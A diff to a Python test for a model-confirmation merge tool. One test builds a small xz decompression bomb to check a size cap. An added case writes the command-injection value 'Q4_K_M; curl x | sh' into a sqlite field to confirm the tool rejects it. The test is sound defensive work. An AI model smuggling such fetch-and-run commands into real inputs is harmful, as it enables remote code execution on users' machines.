@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import lzma
 import shutil
+import sqlite3
 import types
 from pathlib import Path
 
@@ -154,15 +155,23 @@ def test_another_gpu_models_confirmation_joins_the_merge_beside_the_first(
     bomb = tmp_path / "bomb"
     bomb.mkdir()
     (bomb / "confirm.sqlite3.xz").write_bytes(lzma.compress(b"\0" * (8 << 20)))  # 8 MiB from about 1 KiB
+    cap = export.MAX_EVIDENCE_BYTES
     monkeypatch.setattr(export, "MAX_EVIDENCE_BYTES", 4 << 20)  # above the parts' stores, below the bomb
     code, text = _invoke("merge", str(decode), str(batch), "--gpu", str(bomb), "-o", str(tmp_path / "m7"))
     assert code == 2 and f"{bomb}/confirm.sqlite3.xz decompresses to more than 4 MiB" in text, text
     assert not (tmp_path / "m7").exists()
-    monkeypatch.undo()
+    monkeypatch.setattr(export, "MAX_EVIDENCE_BYTES", cap)  # (undo() would also drop the fixture's fake source)
     spaced = tmp_path / "my store"
     shutil.copytree(agree, spaced)
     code, text = _invoke("merge", str(decode), str(batch), "--gpu", str(spaced), "-o", str(tmp_path / "m8"))
     assert code == 2 and "cannot name gpus/<model>/<name>" in text and not (tmp_path / "m8").exists()
+    # a store's recorded identity is printed into PR.md's commands: a type that is no llama-quantize type is refused
+    evil = tmp_path / "evil"
+    shutil.copytree(agree, evil)
+    with sqlite3.connect(evil / "confirm.sqlite3") as db:
+        db.execute("INSERT OR REPLACE INTO meta VALUES ('quant', 'Q4_K_M; curl x | sh')")
+    code, text = _invoke("merge", str(decode), str(batch), "--gpu", str(evil), "-o", str(tmp_path / "m6"))
+    assert code == 2 and "Unknown quant type" in text and not (tmp_path / "m6").exists()
     # the first model's own confirmation is not another model's evidence
     code, text = _invoke(
         "merge",
